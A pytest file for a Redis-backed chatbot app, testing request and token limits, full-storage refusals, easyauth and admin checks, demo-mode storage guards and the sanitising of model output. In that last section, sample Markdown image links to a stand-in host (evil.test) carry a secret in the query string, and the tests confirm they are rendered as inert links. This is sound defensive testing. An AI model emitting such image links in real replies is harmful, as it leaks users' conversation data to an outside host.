"""What issue 14 asked for, seen from the page (AppTest on the real local Redis and a real
local HTTP model server): limits, storage refusals, easyauth only behind App Service
Authentication, demo mode only on a local Redis, inert model output."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import redis

from chatbot.config import ConfigError, Environment
from chatbot.formatting import Block, inert_markdown, split_code_blocks
from chatbot.identity import AuthMode
from chatbot.services import check_demo_storage, uses_local_redis
from tests.support.conversations import SEEDED, opened_count, opened_messages
from tests.support.openai_server import ChatCompletionsServer
from tests.test_app import click, say, start_app, stored, transcript
from tests.test_identity import run_as, trusted_headers  # noqa: F401  (fixture)


@pytest.fixture
def full_redis(redis_client: redis.Redis) -> Iterator[None]:
    """Make the (session's) Redis refuse every write, as a full Azure Managed Redis does."""
    before = str(redis_client.config_get("maxmemory")["maxmemory"])
    yield None
    redis_client.config_set("maxmemory", before)


def fill(redis_client: redis.Redis) -> None:
    redis_client.config_set("maxmemory", 1)


# --- limits ------------------------------------------------------------------------------


def test_a_refused_request_says_which_limit_and_when_and_keeps_the_prompt(
    online_env: ChatCompletionsServer,
    monkeypatch: pytest.MonkeyPatch,
    redis_client: redis.Redis,
    app_env: str,
) -> None:
    monkeypatch.setenv("LIMIT_REQUESTS_PER_MINUTE", "1")
    app = start_app()
    say(app, "first question")
    say(app, "second question")
    error = app.error[0].value
    assert "limit of 1 requests per minute" in error and "resets in" in error
    assert app.text_area[0].value == "second question"  # kept to resend
    assert len(online_env.chat_requests) == 1
    assert [m.content for m in opened_messages(stored(redis_client, app_env), "Luke")][:1] == [
        "first question"
    ]
    assert opened_count(stored(redis_client, app_env), "Luke") == 2


def test_the_daily_token_limit_refuses_before_the_model_is_called(
    online_env: ChatCompletionsServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LIMIT_TOKENS_PER_DAY", "500")
    monkeypatch.setenv("LLM_MAX_TOKENS", "1000")
    app = start_app()
    say(app, "hello")
    assert "more than your daily limit of 500" in app.error[0].value
    assert not online_env.chat_requests
    assert app.text_area[0].value == "hello"


# --- storage refusals --------------------------------------------------------------------


def test_a_full_redis_is_a_message_the_prompt_is_kept_and_nothing_is_paid(
    online_env: ChatCompletionsServer,
    redis_client: redis.Redis,
    app_env: str,
    full_redis: None,
) -> None:
    app = start_app()
    fill(redis_client)
    say(app, "please remember this")
    assert not app.exception
    assert "NOT saved or sent" in app.error[0].value
    assert app.text_area[0].value == "please remember this"
    assert not online_env.chat_requests


def test_retry_reply_does_not_call_the_model_when_the_reply_cannot_be_stored(
    online_env: ChatCompletionsServer,
    redis_client: redis.Redis,
    app_env: str,
    full_redis: None,
) -> None:
    stored(redis_client, app_env).append("Luke", "user", "unanswered", conversation_id=SEEDED)
    app = start_app()
    fill(redis_client)
    click(app, "↻ Retry reply")
    assert not online_env.chat_requests
    assert any("No reply was requested" in e.value for e in app.error)
    assert transcript(app) == [("user", "unanswered")]


def test_a_failed_sidebar_action_shows_no_success_toast(
    app_env: str, redis_client: redis.Redis, full_redis: None
) -> None:
    app = start_app()
    preset = next(box for box in app.sidebar.selectbox if box.label == "Preset")
    other = next(
        i for i, label in enumerate(preset.options) if label != preset.format_func(preset.value)
    )
    fill(redis_client)
    preset.select_index(other).run()
    assert not app.exception
    assert any("Changing the instruction failed" in e.value for e in app.error)
    assert not [t for t in app.toast if t.value.startswith("Instruction:")]


# --- who may be served -------------------------------------------------------------------


@pytest.mark.usefixtures("trusted_headers")
def test_easyauth_without_app_service_authentication_serves_nothing(
    app_env: str, monkeypatch: pytest.MonkeyPatch, redis_client: redis.Redis
) -> None:
    monkeypatch.setenv("AUTH_MODE", "easyauth")
    stored(redis_client, app_env).append("oid-luke", "user", "a secret", conversation_id=SEEDED)
    app = run_as({"oid": "oid-luke", "name": "luke@example.com"})
    assert "App Service Authentication is not on" in app.error[0].value
    assert not app.chat_input and not app.chat_message and not app.sidebar.metric


@pytest.mark.usefixtures("trusted_headers")
def test_only_admins_see_where_storage_and_the_model_are(
    app_env: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AUTH_MODE", "easyauth")
    monkeypatch.setenv("WEBSITE_AUTH_ENABLED", "True")
    monkeypatch.setenv("ADMIN_USERS", "oid-admin")

    def internals(user: str) -> bool:
        app = run_as({"oid": user})
        return any(c.value.startswith("Storage:") for c in app.sidebar.caption)

    assert not internals("oid-luke")
    assert internals("oid-admin")


def test_demo_mode_warns_on_every_screen(app_env: str) -> None:
    app = start_app()
    assert "anyone who can open this page" in app.warning[0].value.lower()
    say(app, "hi")
    assert "anyone who can open this page" in app.warning[0].value.lower()


@pytest.mark.parametrize(
    "settings",
    [{"REDIS_HOST": "prod.redis.cache.windows.net"}, {"REDIS_URL": "rediss://10.0.0.4:10000"}],
)
def test_demo_mode_refuses_a_remote_redis_unless_allowed(settings: dict[str, str]) -> None:
    with pytest.raises(ConfigError, match="ALLOW_DEMO_WITH_REMOTE_REDIS"):
        check_demo_storage(Environment(settings), AuthMode.DEMO)
    allowed = Environment({**settings, "ALLOW_DEMO_WITH_REMOTE_REDIS": "true"})
    check_demo_storage(allowed, AuthMode.DEMO)
    check_demo_storage(Environment(settings), AuthMode.EASYAUTH)


def test_local_redis_is_loopback_or_embedded() -> None:
    assert uses_local_redis(Environment({}))
    assert uses_local_redis(Environment({"REDIS_URL": "redis://127.0.0.1:6379/0"}))
    assert uses_local_redis(Environment({"REDIS_URL": "redis://localhost:6379"}))
    assert uses_local_redis(Environment({"REDIS_URL": "redis://[::1]:6379"}))
    assert not uses_local_redis(Environment({"REDIS_URL": "redis://cache.example.com:6379"}))
    assert uses_local_redis(Environment({"REDIS_URL": "redis+cluster://127.0.0.1:7000"}))
    assert not uses_local_redis(Environment({"REDIS_URL": "rediss+cluster://x.example.com:10000"}))


def test_the_page_refuses_demo_against_a_remote_redis(
    app_env: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REDIS_URL", "redis://192.0.2.10:6379/0")
    app = start_app()
    assert "ALLOW_DEMO_WITH_REMOTE_REDIS" in app.error[0].value
    assert not app.chat_input


# --- model output ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.test/?q=secret)",
        "![x][ref]\n\n[ref]: http://evil.test/p.png",
        "\\\\![x](http://evil.test/a.png)",
        "[![badge](http://evil.test/b.svg)](http://example.com)",
    ],
)
def test_no_image_syntax_survives(text: str) -> None:
    assert "![" not in inert_markdown(text)
    assert "http://evil.test" in inert_markdown(text)  # still there, as a link to click


def test_fenced_code_is_shown_verbatim_and_prose_made_inert() -> None:
    reply = "See ![a](http://x/a.png)\n```rust\nlet v = vec![1, 2];\n```\nDone ![b](u)"
    assert split_code_blocks(reply) == [
        Block("See ![a](http://x/a.png)\n"),
        Block("let v = vec![1, 2];", code=True, language="rust"),
        Block("Done ![b](u)"),
    ]
    assert split_code_blocks("plain") == [Block("plain")]
    # An unclosed fence runs to the end, like Markdown's.
    assert split_code_blocks("~~~\n![x](y)") == [Block("![x](y)", code=True)]


def test_a_stored_reply_with_an_image_renders_as_a_link(
    app_env: str, redis_client: redis.Redis
) -> None:
    memory = stored(redis_client, app_env)
    memory.append("Luke", "user", "hi", conversation_id=SEEDED)
    memory.append(
        "Luke", "assistant", "Look: ![chart](http://evil.test/?q=hi)", conversation_id=SEEDED
    )
    app = start_app()
    shown = app.chat_message[1].markdown[0].value
    assert "![" not in shown and "(http://evil.test/?q=hi)" in shown
